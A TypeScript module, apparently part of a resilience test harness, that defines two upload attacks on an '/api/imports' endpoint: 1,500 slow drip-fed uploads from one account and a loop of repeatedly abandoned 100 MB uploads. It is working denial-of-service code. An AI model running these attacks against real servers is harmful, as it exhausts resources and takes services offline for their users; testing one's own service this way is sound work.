import { request } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import { type Attack, sideBySide, type Target } from './attack.ts';

const MEGABYTE = 1_000_000;
const CONNECTIONS = 1_500;
const ARRIVE_WITHIN_MS = 10_000;
const DRIP_MS = 10_000;
const BROKEN_AFTER = 60;

/** An upload that is announced and begun; `write` answers false once it is over. */
function beginUpload({ address, people: [person], until }: Target, bytes: number) {
  const sending = request(`${address}/api/imports?name=run.gpx`, {
    method: 'POST',
    headers: { ...person?.headers, 'content-length': bytes },
  });
  let isOver = false;
  const over = new Promise<void>((done) => {
    const end = () => {
      isOver = true;
      sending.destroy();
      done();
    };
    sending.once('error', end).once('response', end);
    until.addEventListener('abort', end, { once: true });
  });
  return {
    over,
    /** Waits until the connection takes the bytes. */
    write: async (part: Buffer) => {
      if (!isOver) await Promise.race([over, new Promise((sent) => sending.write(part, sent))]);
      return !isOver;
    },
    hangUp: () => void sending.destroy(),
  };
}

/** One account, 1,500 uploads within ten seconds, each a megabyte of two and then a byte every ten seconds. */
export const slowUploads: Attack = {
  accounts: 1,
  run: (target) =>
    sideBySide(CONNECTIONS, async (index) => {
      const signal = target.until;
      await pause((index * ARRIVE_WITHIN_MS) / CONNECTIONS, undefined, { signal }).catch(() => undefined);
      if (signal.aborted) return;
      const upload = beginUpload(target, 2 * MEGABYTE);
      let isOpen = await upload.write(Buffer.alloc(MEGABYTE));
      while (isOpen) {
        await Promise.race([upload.over, pause(DRIP_MS)]);
        isOpen = await upload.write(Buffer.from('x'));
      }
    }),
};

/** One account that sends 60 MB of 100, hangs up, and begins again. */
export const brokenUploads: Attack = {
  accounts: 1,
  async run(target) {
    const part = Buffer.alloc(MEGABYTE, 'x');
    while (!target.until.aborted) {
      const upload = beginUpload(target, 100 * MEGABYTE);
      for (let sent = 0; sent < BROKEN_AFTER && (await upload.write(part)); sent += 1);
      upload.hangUp();
      await pause(20);
    }
  },
};
